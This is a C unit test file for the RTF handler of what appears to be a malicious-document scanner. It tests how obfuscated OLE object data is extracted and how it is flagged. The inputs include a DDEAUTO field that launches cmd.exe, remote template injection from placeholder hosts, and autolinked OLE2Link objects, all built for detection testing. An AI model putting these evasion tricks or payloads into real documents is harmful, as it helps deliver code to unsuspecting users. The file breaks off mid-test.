/*
 * test_rtf.c - unit tests for the RTF handler (src/formats/rtf.c): object
 * extraction with Word's tolerance for obfuscated \objdata, the findings,
 * templates, fields, limits and broken input.
 *
 * Every object test builds an OLE1 record by hand, encodes it into RTF in
 * some evasive way, and checks that object[N] holds exactly those bytes
 * (by SHA-256: artifact bytes are gone once the scan has finished).
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>
#include <string.h>
#include <glib.h>

#include "core/handler.h"
#include "formats/ole1.h"
#include "formats/rtf.h"
#include "testutil.h"

/* ---- building inputs ---- */

/* An OLE1 EmbeddedObject of class cls whose native data is nlen bytes of a
 * recognisable pattern (including RTF specials: { } \ and NUL). */
static GByteArray *ole1_embedded(const char *cls, size_t nlen)
{
	GByteArray *b = g_byte_array_new();
	tu_put_u32(b, LURE_OLE1_VERSION_WORD);
	tu_put_u32(b, LURE_OLE1_FORMAT_EMBEDDED);
	tu_put_str(b, cls);
	tu_put_str(b, NULL);
	tu_put_str(b, NULL);
	tu_put_u32(b, (uint32_t)nlen);
	for (size_t i = 0; i < nlen; i++) {
		uint8_t c = (uint8_t)(i * 7 + 3);
		if (i % 5 == 0)
			c = "{}\\\0"[i / 5 % 4];
		g_byte_array_append(b, &c, 1);
	}
	return b;
}

static GByteArray *ole1_linked(const char *cls, const char *topic)
{
	GByteArray *b = g_byte_array_new();
	tu_put_u32(b, LURE_OLE1_VERSION_WORD);
	tu_put_u32(b, LURE_OLE1_FORMAT_LINKED);
	tu_put_str(b, cls);
	tu_put_str(b, topic);
	tu_put_str(b, NULL);
	tu_put_str(b, NULL);
	tu_put_u32(b, 0);
	tu_put_u32(b, 1);
	return b;
}

static char *hex(const GByteArray *b)
{
	GString *s = g_string_new(NULL);
	for (guint i = 0; i < b->len; i++)
		g_string_append_printf(s, "%02x", b->data[i]);
	return g_string_free(s, FALSE);
}

static char *sha256_of(const GByteArray *b)
{
	return g_compute_checksum_for_data(G_CHECKSUM_SHA256, b->data, b->len);
}

static lure_scan *scan_str(const char *rtf, const lure_limits *limits)
{
	return tu_scan(rtf, strlen(rtf), limits);
}

/* Asserts that artifact name exists and holds exactly want's bytes. */
static const lure_artifact *assert_object(const lure_scan *s, const char *name,
					  const GByteArray *want)
{
	const lure_artifact *a = tu_find_artifact(s, name);
	if (a == NULL)
		fail_msg("no artifact '%s'", name);
	char *sum = sha256_of(want);
	if (a->size != want->len || strcmp(a->sha256, sum) != 0)
		fail_msg("'%s': %" G_GUINT64_FORMAT " bytes, want %u (sha256 differs)", name,
			 a->size, want->len);
	g_free(sum);
	return a;
}

/* The finding with this id on artifact a, or NULL. */
static const lure_finding *finding_on(const lure_scan *s, const char *id, const lure_artifact *a)
{
	for (guint i = 0; i < s->findings->len; i++) {
		const lure_finding *f = g_ptr_array_index(s->findings, i);
		if (strcmp(f->id, id) == 0 && f->artifact == a->id)
			return f;
	}
	return NULL;
}

static unsigned count_on(const lure_scan *s, const char *id, unsigned artifact)
{
	unsigned n = 0;
	for (guint i = 0; i < s->findings->len; i++) {
		const lure_finding *f = g_ptr_array_index(s->findings, i);
		if (strcmp(f->id, id) == 0 && f->artifact == artifact)
			n++;
	}
	return n;
}

/* Wraps hex (already obfuscated) as the data of one embedded object. */
static char *one_object(const char *header, const char *objdata)
{
	return g_strdup_printf("%s\\ansi{\\object\\objemb{\\*\\objclass Package}"
			       "{\\*\\objdata %s}{\\result {\\pict 0102}}}\\par}",
			       header, objdata);
}

/* Scans one object whose \objdata is text and checks object[0] == want. */
static void check_decodes_to(const char *objdata, const GByteArray *want)
{
	char *rtf = one_object("{\\rtf1", objdata);
	lure_scan *s = scan_str(rtf, NULL);
	assert_object(s, "object[0]", want);
	assert_null(tu_find_artifact(s, "object[1]"));
	lure_scan_free(s);
	g_free(rtf);
}

/* ---- objects ---- */

static void test_plain_object(void **state)
{
	(void)state;
	GByteArray *ole = ole1_embedded("Excel.Sheet.8", 300);
	char *h = hex(ole);
	char *rtf = one_object("{\\rtf1", h);
	lure_scan *s = scan_str(rtf, NULL);

	const lure_artifact *root = lure_scan_root(s);
	assert_string_equal(root->kind, "rtf");
	assert_string_equal(lure_artifact_get_prop(root, "header"), "{\\rtf1");
	assert_string_equal(lure_artifact_get_prop(root, "objects"), "1");
	const lure_artifact *obj = assert_object(s, "object[0]", ole);
	assert_string_equal(obj->kind, "ole1");
	assert_string_equal(obj->path, "input > object[0]");
	assert_string_equal(lure_artifact_get_prop(obj, "objclass"), "Package");
	assert_string_equal(lure_artifact_get_prop(obj, "rtf_flags"), "objemb");
	assert_non_null(tu_find_artifact(s, "ole1:Excel.Sheet.8"));

	const lure_finding *f = finding_on(s, "rtf.object", obj);
	assert_non_null(f);
	assert_int_equal(f->severity, LURE_SEV_LOW);
	assert_string_equal(lure_finding_get_detail(f, "class"), "Excel.Sheet.8");
	assert_string_equal(lure_finding_get_detail(f, "objclass"), "Package");
	assert_string_equal(lure_finding_get_detail(f, "flags"), "objemb");
	assert_string_equal(lure_finding_get_detail(f, "format"), "embedded");
	assert_int_equal(tu_count_findings(s, "rtf.object"), 1);
	assert_int_equal(tu_count_findings(s, "rtf.objupdate"), 0);
	assert_int_equal(tu_count_findings(s, "container.malformed"), 0);
	assert_int_equal(lure_scan_verdict(s), LURE_VERDICT_CLEAN);
	lure_scan_free(s);
	g_free(rtf);
	g_free(h);
	g_byte_array_free(ole, TRUE);
}

/* Inserts sep after every nibble (or byte) of h. */
static char *interleave(const char *h, const char *sep, size_t every)
{
	GString *s = g_string_new(NULL);
	for (size_t i = 0; h[i] != '\0'; i++) {
		g_string_append_c(s, h[i]);
		if ((i + 1) % every == 0)
			g_string_append(s, sep);
	}
	return g_string_free(s, FALSE);
}

static void test_whitespace_and_case(void **state)
{
	(void)state;
	GByteArray *ole = ole1_embedded("Package", 200);
	char *h = hex(ole);
	static const char *const seps[] = {" ", "\r\n", "\t", "\n", "\r", " \r\n\t "};
	for (size_t i = 0; i < G_N_ELEMENTS(seps); i++) {
		for (size_t every = 1; every <= 3; every++) {
			char *t = interleave(h, seps[i], every);
			check_decodes_to(t, ole);
			g_free(t);
		}
	}
	char *upper = g_ascii_strup(h, -1);
	check_decodes_to(upper, ole);
	/* Mixed case, nibble by nibble. */
	for (size_t i = 0; i < strlen(upper); i += 3)
		upper[i] = g_ascii_tolower(upper[i]);
	check_decodes_to(upper, ole);
	g_free(upper);
	g_free(h);
	g_byte_array_free(ole, TRUE);
}

static void test_junk_inside_objdata(void **state)
{
	(void)state;
	GByteArray *ole = ole1_embedded("Package", 120);
	char *h = hex(ole);
	/* Non-hex characters, unknown control words (with parameters, overlong,
	 * negative), control symbols, {\*\junk} and {\pict} destinations with
	 * hex inside (not decoded), plain nested groups (decoded), NUL bytes. */
	static const char *const junk[] = {
		"zz", "\\par ", "\\foo123 ", "\\bar-5 ", "\\uc0 ",
		"\\aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaabc ",
		"{\\*\\junk 4142434445}", "{\\*\\objclass Word.Document.8}", "{\\pict 0a0b0c}",
		"{\\*\\datastore 0105000002000000}", "\\~", "\\-", "!?.;", "\\1", "\\x99999999999999999999 ",
		"{\\*\\unknown{\\nested ffff}ffff}", "\\*\\unknownmid ", "\\rsltpict ",
		/* the first and last destinations of the lookup table */
		"{\\aftncn 4142}", "{\\xmlopen 4142}",
	};
	GString *t = g_string_new(NULL);
	for (size_t i = 0; h[i] != '\0'; i++) {
		g_string_append_c(t, h[i]);
		g_string_append(t, junk[i % G_N_ELEMENTS(junk)]);
		if (i % 37 == 5) /* a plain nested group stays data */
			g_string_append(t, "{");
		if (i % 37 == 9)
			g_string_append(t, "}");
	}
	check_decodes_to(t->str, ole);

	/* NUL bytes among the hex: build with explicit length. */
	GString *z = g_string_new(NULL);
	g_string_append(z, "{\\rtf1{\\object\\objemb{\\*\\objdata ");
	for (size_t i = 0; h[i] != '\0'; i++) {
		g_string_append_c(z, h[i]);
		if (i % 4 == 1)
			g_string_append_c(z, '\0');
	}
	g_string_append(z, "}}}");
	lure_scan *s = tu_scan(z->str, z->len, NULL);
	assert_object(s, "object[0]", ole);
	lure_scan_free(s);

	g_string_free(z, TRUE);
	g_string_free(t, TRUE);
	g_free(h);
	g_byte_array_free(ole, TRUE);
}

static void test_odd_nibbles(void **state)
{
	(void)state;
	GByteArray *ole = ole1_embedded("Package", 64);
	char *h = hex(ole);

	/* An odd trailing nibble is dropped. */
	char *t = g_strconcat(h, "f", NULL);
	check_decodes_to(t, ole);
	g_free(t);
	/* Word drops a pending odd nibble at \'hh; the hh is not data. */
	t = g_strconcat("a\\'4142", h, NULL);
	/* "a" pending, dropped by \'41; "42" is text after the escape. */
	GByteArray *want = g_byte_array_new();
	g_byte_array_append(want, (const uint8_t *)"\x42", 1);
	g_byte_array_append(want, ole->data, ole->len);
	check_decodes_to(t, want);
	g_free(t);
	g_byte_array_free(want, TRUE);
	/* An even count before \'hh keeps everything. */
	t = g_strconcat("\\'ff", h, NULL);
	check_decodes_to(t, ole);
	g_free(t);
	/* \uN skips its fallback character (a hex digit here). */
	size_t half = strlen(h) / 2 + 1; /* split inside a byte */
	t = g_strdup_printf("%.*s\\u1234 A%s", (int)half, h, h + half);
	check_decodes_to(t, ole);
	g_free(t);
	t = g_strdup_printf("%.*s\\uc2\\u-4 AB%s", (int)half, h, h + half);
	check_decodes_to(t, ole);
	g_free(t);
	g_free(h);
	g_byte_array_free(ole, TRUE);
}

static void test_bin_runs(void **state)
{
	(void)state;
	GByteArray *ole = ole1_embedded("Package", 100);
	char *h = hex(ole);
	/* Header as hex, 60 bytes raw through \bin, the rest as hex again. */
	const size_t head = 20, raw = 60;
	GString *t = g_string_new(NULL);
	g_string_append(t, "{\\rtf1{\\object\\objemb{\\*\\objdata ");
	g_string_append_len(t, h, (gssize)(head * 2));
	g_string_append_printf(t, "\\bin%zu ", raw);
	g_string_append_len(t, (const char *)ole->data + head, (gssize)raw);
	g_string_append(t, h + (head + raw) * 2);
	g_string_append(t, "}}}");
	lure_scan *s = tu_scan(t->str, t->len, NULL);
	assert_object(s, "object[0]", ole);
	lure_scan_free(s);

	/* Leading zeros in the length, and \bin0 / \bin-5 / \bin with no length. */
	g_string_truncate(t, 0);
	g_string_append(t, "{\\rtf1{\\object\\objemb{\\*\\objdata \\bin0 \\bin-5 \\bin ");
	g_string_append_len(t, h, (gssize)(head * 2));
	g_string_append_printf(t, "\\bin0000000000000000000%zu ", raw);
	g_string_append_len(t, (const char *)ole->data + head, (gssize)raw);
	g_string_append(t, h + (head + raw) * 2);
	g_string_append(t, "}}}");
	s = tu_scan(t->str, t->len, NULL);
	assert_object(s, "object[0]", ole);
	lure_scan_free(s);

	/* \bin outside objdata skips its bytes: braces in them do not count. */
	g_string_truncate(t, 0);
	g_string_append(t, "{\\rtf1\\bin6 }}}}}}{\\object\\objemb{\\*\\objdata ");
	g_string_append(t, h);
	g_string_append(t, "}}}");
	s = tu_scan(t->str, t->len, NULL);
	assert_object(s, "object[0]", ole);
	lure_scan_free(s);

	g_string_free(t, TRUE);
	g_free(h);
	g_byte_array_free(ole, TRUE);
}

static void test_huge_bin(void **state)
{
	(void)state;
	static const char rtf[] =
		"{\\rtf1{\\object\\objemb{\\*\\objdata 0102\\bin99999999999999999999999999 ab";
	lure_scan *s = scan_str(rtf, NULL);
	GByteArray *want = g_byte_array_new();
	g_byte_array_append(want, (const uint8_t *)"\x01\x02" "ab", 4);
	assert_object(s, "object[0]", want);
	/* Not an OLE1 record: said so on the finding. */
	const lure_finding *f = tu_find_finding(s, "rtf.object", NULL, NULL);
	assert_non_null(f);
	assert_non_null(lure_finding_get_detail(f, "ole1"));
	lure_scan_free(s);
	g_byte_array_free(want, TRUE);

	s = scan_str("{\\rtf1\\bin4294967297", NULL);
	assert_int_equal(tu_count_findings(s, "rtf.object"), 0);
	lure_scan_free(s);
}

static void test_two_objects(void **state)
{
	(void)state;
	GByteArray *a = ole1_embedded("OLE2Link", 500);
	GByteArray *b = ole1_embedded("Msxml2.SAXXMLReader.5.0", 300);
	char *ha = hex(a), *hb = hex(b);
	char *rtf = g_strdup_printf(
		"{\\rtf1\\ansi hello {\\object\\objautlink\\objupdate\\rsltpict"
		"{\\*\\objclass Word.Document.8}{\\*\\objdata %s}{\\result x}}"
		"\\par {\\object\\objautlink\\objupdate{\\*\\objdata %s}}}",
		ha, hb);
	lure_scan *s = scan_str(rtf, NULL);

	const lure_artifact *o0 = assert_object(s, "object[0]", a);
	const lure_artifact *o1 = assert_object(s, "object[1]", b);
	assert_string_equal(lure_artifact_get_prop(lure_scan_root(s), "objects"), "2");
	assert_non_null(tu_find_artifact(s, "ole1:OLE2Link"));
	const lure_artifact *n1 = tu_find_artifact(s, "ole1:Msxml2.SAXXMLReader.5.0");
	assert_non_null(n1);
	assert_string_equal(n1->path, "input > object[1] > ole1:Msxml2.SAXXMLReader.5.0");

	const lure_finding *f0 = finding_on(s, "rtf.object", o0);
	assert_non_null(f0);
	assert_string_equal(lure_finding_get_detail(f0, "class"), "OLE2Link");
	assert_string_equal(lure_finding_get_detail(f0, "objclass"), "Word.Document.8");
	assert_string_equal(lure_finding_get_detail(f0, "flags"), "objautlink objupdate");
	assert_int_equal(f0->severity, LURE_SEV_MEDIUM);
	const lure_finding *f1 = finding_on(s, "rtf.object", o1);
	assert_non_null(f1);
	assert_string_equal(lure_finding_get_detail(f1, "class"), "Msxml2.SAXXMLReader.5.0");
	assert_null(lure_finding_get_detail(f1, "objclass"));
	assert_int_equal(f1->severity, LURE_SEV_MEDIUM); /* autolinked */

	const lure_finding *u0 = finding_on(s, "rtf.objupdate", o0);
	const lure_finding *u1 = finding_on(s, "rtf.objupdate", o1);
	assert_non_null(u0);
	assert_non_null(u1);
	assert_int_equal(u0->severity, LURE_SEV_HIGH);
	assert_int_equal(u1->severity, LURE_SEV_HIGH);
	assert_int_equal(lure_scan_verdict(s), LURE_VERDICT_MALICIOUS);
	lure_scan_free(s);
	g_free(rtf);
	g_free(ha);
	g_free(hb);
	g_byte_array_free(a, TRUE);
	g_byte_array_free(b, TRUE);
}

static void test_objupdate_without_autolink(void **state)
{
	(void)state;
	GByteArray *ole = ole1_embedded("Word.Document.8", 40);
	char *h = hex(ole);
	char *rtf = g_strdup_printf("{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata %s}}}", h);
	lure_scan *s = scan_str(rtf, NULL);
	const lure_artifact *o = assert_object(s, "object[0]", ole);
	const lure_finding *u = finding_on(s, "rtf.objupdate", o);
	assert_non_null(u);
	assert_int_equal(u->severity, LURE_SEV_MEDIUM);
	assert_int_equal(finding_on(s, "rtf.object", o)->severity, LURE_SEV_LOW);
	lure_scan_free(s);
	g_free(rtf);
	g_free(h);
	g_byte_array_free(ole, TRUE);
}

static void test_ole2link_and_linked(void **state)
{
	(void)state;
	/* Embedded OLE2Link with no link flags: medium for the class. */
	GByteArray *ole = ole1_embedded("OLE2Link", 64);
	char *h = hex(ole);
	char *rtf = g_strdup_printf("{\\rtf1{\\object\\objemb{\\*\\objdata %s}}}", h);
	lure_scan *s = scan_str(rtf, NULL);
	const lure_artifact *o = assert_object(s, "object[0]", ole);
	const lure_finding *f = finding_on(s, "rtf.object", o);
	assert_int_equal(f->severity, LURE_SEV_MEDIUM);
	assert_string_equal(lure_finding_get_detail(f, "format"), "embedded");
	assert_string_equal(lure_finding_get_detail(f, "class"), "OLE2Link");
	lure_scan_free(s);
	g_free(rtf);
	g_free(h);
	g_byte_array_free(ole, TRUE);

	/* An OLE1 LinkedObject (FormatID 1) under \objemb: medium, linked. */
	ole = ole1_linked("Word.Document.8", "\\\\192.0.2.10\\share\\x.doc");
	h = hex(ole);
	rtf = g_strdup_printf("{\\rtf1{\\object\\objemb{\\*\\objdata %s}}}", h);
	s = scan_str(rtf, NULL);
	o = assert_object(s, "object[0]", ole);
	f = finding_on(s, "rtf.object", o);
	assert_int_equal(f->severity, LURE_SEV_MEDIUM);
	assert_string_equal(lure_finding_get_detail(f, "format"), "linked");
	assert_string_equal(lure_artifact_get_prop(o, "topic"), "\\\\192.0.2.10\\share\\x.doc");
	lure_scan_free(s);
	g_free(rtf);
	g_free(h);
	g_byte_array_free(ole, TRUE);

	/* \objlink alone makes it medium too. */
	ole = ole1_embedded("Excel.Sheet.8", 16);
	h = hex(ole);
	rtf = g_strdup_printf("{\\rtf1{\\object\\objlink{\\*\\objdata %s}}}", h);
	s = scan_str(rtf, NULL);
	o = assert_object(s, "object[0]", ole);
	assert_int_equal(finding_on(s, "rtf.object", o)->severity, LURE_SEV_MEDIUM);
	lure_scan_free(s);
	g_free(rtf);
	g_free(h);
	g_byte_array_free(ole, TRUE);
}

static void test_class_from_header_not_objclass(void **state)
{
	(void)state;
	GByteArray *ole = ole1_embedded("Equation.3", 64);
	char *h = hex(ole);
	char *rtf = g_strdup_printf("{\\rtf1{\\object\\objemb{\\*\\objclass Word.Document.8}"
				    "{\\*\\objdata %s}}}", h);
	lure_scan *s = scan_str(rtf, NULL);
	const lure_artifact *o = assert_object(s, "object[0]", ole);
	const lure_finding *f = finding_on(s, "rtf.object", o);
	assert_string_equal(lure_finding_get_detail(f, "class"), "Equation.3");
	assert_string_equal(lure_finding_get_detail(f, "objclass"), "Word.Document.8");
	assert_non_null(tu_find_artifact(s, "ole1:Equation.3"));
	lure_scan_free(s);
	g_free(rtf);
	g_free(h);
	g_byte_array_free(ole, TRUE);

	/* When they agree, objclass is not repeated; \'hh and \u work in it. */
	ole = ole1_embedded("Package", 8);
	h = hex(ole);
	rtf = g_strdup_printf("{\\rtf1{\\object\\objemb{\\*\\objclass P\\'61ck\\u97 ?ge}"
			      "{\\*\\objdata %s}}}", h);
	s = scan_str(rtf, NULL);
	o = assert_object(s, "object[0]", ole);
	f = finding_on(s, "rtf.object", o);
	assert_string_equal(lure_finding_get_detail(f, "class"), "Package");
	assert_null(lure_finding_get_detail(f, "objclass"));
	lure_scan_free(s);
	g_free(rtf);
	g_free(h);
	g_byte_array_free(ole, TRUE);
}

static void test_objects_without_data(void **state)
{
	(void)state;
	lure_scan *s = scan_str("{\\rtf1{\\object\\objautlink{\\*\\objclass Word.Document.8}"
				"{\\result hi}}{\\object\\objemb{\\*\\objdata }}}", NULL);
	const lure_artifact *root = lure_scan_root(s);
	assert_null(tu_find_artifact(s, "object[0]"));
	assert_null(tu_find_artifact(s, "object[1]"));
	assert_int_equal(root->nchildren, 0);
	assert_int_equal(tu_count_findings(s, "rtf.object"), 2);
	const lure_finding *f = tu_find_finding(s, "rtf.object", "object", "object[0]");
	assert_non_null(f);
	assert_int_equal(f->artifact, 0);
	assert_string_equal(lure_finding_get_detail(f, "class"), "Word.Document.8");
	assert_string_equal(lure_finding_get_detail(f, "data"), "no \\objdata");
	assert_int_equal(f->severity, LURE_SEV_MEDIUM);
	f = tu_find_finding(s, "rtf.object", "object", "object[1]");
	assert_non_null(f);
	assert_string_equal(lure_finding_get_detail(f, "data"), "empty \\objdata");
	assert_null(lure_finding_get_detail(f, "class"));
	assert_int_equal(f->severity, LURE_SEV_LOW);
	lure_scan_free(s);
}

/* form with its one "%s" replaced by h (formats must be literals). */
static char *fill(const char *form, const char *h)
{
	const char *at = strstr(form, "%s");
	assert_non_null(at);
	return g_strdup_printf("%.*s%s%s", (int)(at - form), form, h, at + 2);
}

static void test_objdata_variants(void **state)
{
	(void)state;
	GByteArray *ole = ole1_embedded("Package", 50);
	char *h = hex(ole);
	static const char *const forms[] = {
		/* without \* */
		"{\\rtf1{\\object\\objemb{\\objdata %s}}}",
		/* bare, in the object's own group */
		"{\\rtf1{\\object\\objemb\\objdata %s}}",
		/* outside any \object */
		"{\\rtf1{\\*\\objdata %s}}",
		/* header variants Word accepts */
		"{\\rt{\\object{\\*\\objdata %s}}}",
		"{\\rtfXYZ{\\object{\\*\\objdata %s}}}",
		"{\\rt0{\\object{\\*\\objdata %s}}}",
		/* inside an ignorable group: still looked at */
		"{\\rtf1{\\*\\junk{\\object{\\*\\objdata %s}}}}",
		/* nested plain groups inside the data */
		"{\\rtf1{\\object{\\*\\objdata {{{%s}}}}}}",
		/* missing closing braces: closed at the end of the data */
		"{\\rtf1{\\object{\\*\\objdata %s",
		/* stray closing braces before the object */
		"{\\rtf1}}}}}{\\object{\\*\\objdata %s}}",
		/* objdata split across lines */
		"{\\rtf1{\\object{\\*\\objdata\r\n%s\r\n}}}",
	};
	for (size_t i = 0; i < G_N_ELEMENTS(forms); i++) {
		char *rtf = fill(forms[i], h);
		lure_scan *s = scan_str(rtf, NULL);
		assert_object(s, "object[0]", ole);
		assert_int_equal(tu_count_findings(s, "rtf.object"), 1);
		lure_scan_free(s);
		g_free(rtf);
	}

	/* Header property shows the variant. */
	char *rtf = fill(forms[3], h);
	lure_scan *s = scan_str(rtf, NULL);
	assert_string_equal(lure_artifact_get_prop(lure_scan_root(s), "header"), "{\\rt");
	lure_scan_free(s);
	g_free(rtf);

	/* A second \objdata in one object is a further object with the
	 * first one's flags. */
	GByteArray *b = ole1_embedded("OLE2Link", 30);
	char *hb = hex(b);
	rtf = g_strdup_printf("{\\rtf1{\\object\\objautlink{\\*\\objdata %s}{\\*\\objdata %s}"
			      "\\objupdate}}", h, hb);
	s = scan_str(rtf, NULL);
	assert_object(s, "object[0]", ole);
	const lure_artifact *o1 = assert_object(s, "object[1]", b);
	const lure_finding *f = finding_on(s, "rtf.object", o1);
	assert_string_equal(lure_finding_get_detail(f, "flags"), "objautlink objupdate");
	assert_int_equal(tu_count_findings(s, "rtf.objupdate"), 2);
	lure_scan_free(s);
	g_free(rtf);
	g_free(hb);
	g_byte_array_free(b, TRUE);

	g_free(h);
	g_byte_array_free(ole, TRUE);
}

/* ---- templates and fields ---- */

static void test_template(void **state)
{
	(void)state;
	lure_scan *s = scan_str("{\\rtf1{\\*\\template http://192.0.2.20/t.dotm}\\par}", NULL);
	const lure_finding *f = tu_find_finding(s, "rtf.template", NULL, NULL);
	assert_non_null(f);
	assert_int_equal(f->severity, LURE_SEV_HIGH);
	assert_int_equal(f->artifact, 0);
	assert_string_equal(lure_finding_get_detail(f, "target"), "http://192.0.2.20/t.dotm");
	assert_string_equal(lure_finding_get_detail(f, "scheme"), "http");
	assert_non_null(lure_finding_get_detail(f, "target_normalized"));
	assert_int_equal(lure_scan_verdict(s), LURE_VERDICT_MALICIOUS);
	lure_scan_free(s);

	/* UNC, with RTF escapes: \\ is a backslash, \'68 an 'h'. */
	s = scan_str("{\\rtf1{\\*\\template \\\\\\\\192.0.2.10\\\\s\\\\\\'68.dotm}}", NULL);
	f = tu_find_finding(s, "rtf.template", NULL, NULL);
	assert_non_null(f);
	assert_string_equal(lure_finding_get_detail(f, "target"), "\\\\192.0.2.10\\s\\h.dotm");
	assert_string_equal(lure_finding_get_detail(f, "scheme"), "unc");
	assert_int_equal(f->severity, LURE_SEV_HIGH);
	lure_scan_free(s);

	/* Split over groups and lines, with \u for the 'p'. */
	s = scan_str("{\\rtf1{\\*\\template ht{t}\r\n\\u112 ?://example.invalid/x.dotm}}", NULL);
	f = tu_find_finding(s, "rtf.template", NULL, NULL);
	assert_non_null(f);
	assert_string_equal(lure_finding_get_detail(f, "target"),
			    "http://example.invalid/x.dotm");
	assert_int_equal(f->severity, LURE_SEV_HIGH);
	lure_scan_free(s);

	/* Local: reported, not high. */
	s = scan_str("{\\rtf1{\\*\\template C:\\\\Users\\\\me\\\\Normal.dotm}}", NULL);
	f = tu_find_finding(s, "rtf.template", NULL, NULL);
	assert_non_null(f);
	assert_true(f->severity < LURE_SEV_HIGH);
	assert_int_not_equal(lure_scan_verdict(s), LURE_VERDICT_MALICIOUS);
	lure_scan_free(s);

	/* Empty: nothing. */
	s = scan_str("{\\rtf1{\\*\\template }}", NULL);
	assert_int_equal(tu_count_findings(s, "rtf.template"), 0);
	lure_scan_free(s);
}

static void test_fldinst_dde(void **state)
{
	(void)state;
	lure_scan *s = scan_str(
		"{\\rtf1{\\field{\\*\\fldinst {\\rtlch\\fcs1 DDEAUTO c:\\\\\\\\windows\\\\\\\\"
		"system32\\\\\\\\cmd.exe \"/k calc.exe\"}}{\\fldrslt x}}}", NULL);
	const lure_finding *f = tu_find_finding(s, "dde.field", NULL, NULL);
	assert_non_null(f);
	assert_int_equal(f->artifact, 0);
	lure_scan_free(s);

	/* Split over nested groups and escapes. */
	s = scan_str("{\\rtf1{\\field{\\*\\fldinst {DD}{\\'45AU}{TO cmd.exe}}}}", NULL);
	assert_non_null(tu_find_finding(s, "dde.field", NULL, NULL));
	lure_scan_free(s);

	/* An ordinary field is not DDE. */
	s = scan_str("{\\rtf1{\\field{\\*\\fldinst PAGE }{\\fldrslt 1}}}", NULL);
	assert_int_equal(tu_count_findings(s, "dde.field"), 0);
	lure_scan_free(s);
}

/* ---- limits and broken input ---- */

static void test_group_depth_limit(void **state)
{
	lure_limits limits;
	(void)state;
	lure_limits_default(&limits);
	limits.rtf_group_depth = 8;
	GByteArray *ole = ole1_embedded("Package", 40);
	char *h = hex(ole);
	GString *t = g_string_new("{\\rtf1");
	for (int i = 0; i < 50; i++)
		g_string_append(t, "{\\b ");
	g_string_append_printf(t, "{\\object\\objemb{\\*\\objdata %s}}", h);
	for (int i = 0; i < 50; i++)
		g_string_append(t, "}");
	g_string_append(t, "{\\*\\template http://192.0.2.20/t.dotm}}");

	lure_scan *s = scan_str(t->str, &limits);
	assert_int_equal(tu_count_findings(s, "limit.exceeded"), 1);
	assert_non_null(tu_find_finding(s, "limit.exceeded", "limit", "rtf_group_depth"));
	/* The parse went on: the deep object and the template after it. */
	assert_object(s, "object[0]", ole);
	assert_non_null(tu_find_finding(s, "rtf.template", NULL, NULL));
	lure_scan_free(s);

	/* Deep nesting far past the default limit, unbalanced. */
	GString *deep = g_string_new("{\\rtf1");
	for (int i = 0; i < 200000; i++)
		g_string_append_c(deep, '{');
	g_string_append(deep, "\\object{\\*\\objdata 0102}");
	s = tu_scan(deep->str, deep->len, NULL);
	assert_non_null(tu_find_finding(s, "limit.exceeded", "limit", "rtf_group_depth"));
	assert_int_equal(tu_count_findings(s, "limit.exceeded"), 1);
	lure_scan_free(s);

	g_string_free(deep, TRUE);
	g_string_free(t, TRUE);
	g_free(h);
	g_byte_array_free(ole, TRUE);
}

static void test_unbalanced_and_garbage(void **state)
{
	(void)state;
	static const char *const inputs[] = {
		"{\\rt", "{\\rtf1", "{\\rtf1}", "{\\rtf1}}}}}}}}", "{\\rtf1\\", "{\\rtf1\\'",
		"{\\rtf1\\'4", "{\\rtf1\\u", "{\\rtf1\\u-", "{\\rtf1\\u99999999999999999999999",
		"{\\rtf1\\uc99999999999\\u1 {\\*\\template x}}", "{\\rtf1\\*", "{\\rtf1{\\*}",
		"{\\rtf1{\\object", "{\\rtf1{\\object{\\*\\objdata", "{\\rtf1{\\*\\objdata 0",
		"{\\rtf1\\object\\object\\object{\\*\\objdata 00}\\objdata 11}",
		"{\\rtf1{\\*\\template", "{\\rtf1{\\*\\fldinst DDE", "{\\rtf1\\bin",
		"{\\rtf1\\bin-99999999999999999999 x", "{\\rtf1}\\objdata 0102 \\object\\objupdate",
		"{\\rtf1{\\object\\objdata 01{\\object\\objdata 02}03}}",
		"{\\rtf1{\\*\\objclass x}{\\*\\objdata{\\*\\objclass y}0102}}",
	};
	for (size_t i = 0; i < G_N_ELEMENTS(inputs); i++) {
		/* Exact-size copies, so ASan sees any overread. */
		lure_scan *s = scan_str(inputs[i], NULL);
		assert_string_equal(lure_scan_root(s)->kind, "rtf");
		assert_int_not_equal(lure_scan_verdict(s), LURE_VERDICT_ERROR);
		lure_scan_free(s);
	}
	/* Nested objects each get their own bytes. */
	lure_scan *s = scan_str("{\\rtf1{\\object\\objdata 01{\\object\\objdata 02}03}}", NULL);
	GByteArray *want = g_byte_array_new();
	g_byte_array_append(want, (const uint8_t *)"\x01\x03", 2);
	assert_object(s, "object[0]", want);
	g_byte_array_set_size(want, 0);
	g_byte_array_append(want, (const uint8_t *)"\x02", 1);
	assert_object(s, "object[1]", want);
	g_byte_array_free(want, TRUE);
	lure_scan_free(s);
}

static void test_size_limits(void **state)
{
	lure_limits limits;
	(void)state;
	lure_limits_default(&limits);
	limits.max_artifact_size = 1000;
	GByteArray *big = ole1_embedded("Package", 9000);
	GByteArray *small = ole1_embedded("Package", 100);
	char *hbig = hex(big), *hsmall = hex(small);
	char *rtf = g_strdup_printf("{\\rtf1{\\object{\\*\\objdata %s}}{\\object{\\*\\objdata %s}}}",
				    hbig, hsmall);
	lure_scan *s = scan_str(rtf, &limits);
	assert_non_null(tu_find_finding(s, "limit.exceeded", "limit", "artifact_size"));
	/* The big one stopped; the next one is still extracted. */
	const lure_finding *f = tu_find_finding(s, "rtf.object", "object", "object[0]");
	assert_non_null(f);
	assert_non_null(lure_finding_get_detail(f, "truncated"));
	assert_object(s, "object[1]", small);
	lure_scan_free(s);

	/* The total limit stops all decoding, recorded once on the RTF. */
	lure_limits_default(&limits);
	limits.max_total_size = 5000;
	s = scan_str(rtf, &limits);
	assert_int_equal(count_on(s, "limit.exceeded", 0), 1);
	assert_non_null(tu_find_finding(s, "limit.exceeded", "limit", "total_size"));
	f = tu_find_finding(s, "rtf.object", "object", "object[1]");
	assert_non_null(f);
	assert_string_equal(lure_finding_get_detail(f, "size"), "0");
	lure_scan_free(s);

	/* The artifact limit bounds the objects too. */
	lure_limits_default(&limits);
	limits.max_artifacts = 5;
	GString *many = g_string_new("{\\rtf1");
	for (int i = 0; i < 10000; i++)
		g_string_append(many, "{\\object\\objemb}");
	g_string_append(many, "}");
	s = tu_scan(many->str, many->len, &limits);
